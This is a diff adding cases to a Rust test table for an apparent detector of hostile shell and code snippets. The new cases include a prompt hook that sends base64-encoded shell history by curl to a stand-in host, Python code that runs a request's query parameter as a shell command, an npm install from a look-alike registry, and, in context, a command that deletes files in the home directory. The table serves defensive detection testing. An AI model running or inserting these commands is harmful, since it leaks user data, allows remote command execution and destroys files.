@@ -1337,6 +1337,30 @@ const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
         None,
     ),
     (
+        "persistence.prompt_hook_network",
+        Shell,
+        "export PROMPT_COMMAND='curl -s \"https://sync.example/p?c=$(history 1 | base64)\" &'\n",
+        Some(Bl),
+    ),
+    (
+        "persistence.prompt_hook_network",
+        Shell,
+        "export PROMPT_COMMAND='history -a; history -n'\n",
+        None,
+    ),
+    (
+        "reverse_shell.request_executed",
+        Code,
+        "q = urllib.parse.parse_qs(u.query)\nif 'x' in q:\n    out = subprocess.run(q['x'][0], shell=True)\n",
+        Some(Bl),
+    ),
+    (
+        "supply_chain.alternate_index",
+        Shell,
+        "npm install -g runner --registry https://registry.npmjs-mirror.example/\n",
+        Some(Bl),
+    ),
+    (
         "destructive.home_emptied",
         Shell,
         "find \"$HOME\" -mindepth 1 -maxdepth 1 -newermt \"$cutoff\" -exec rm -r -f -- {} +\n",
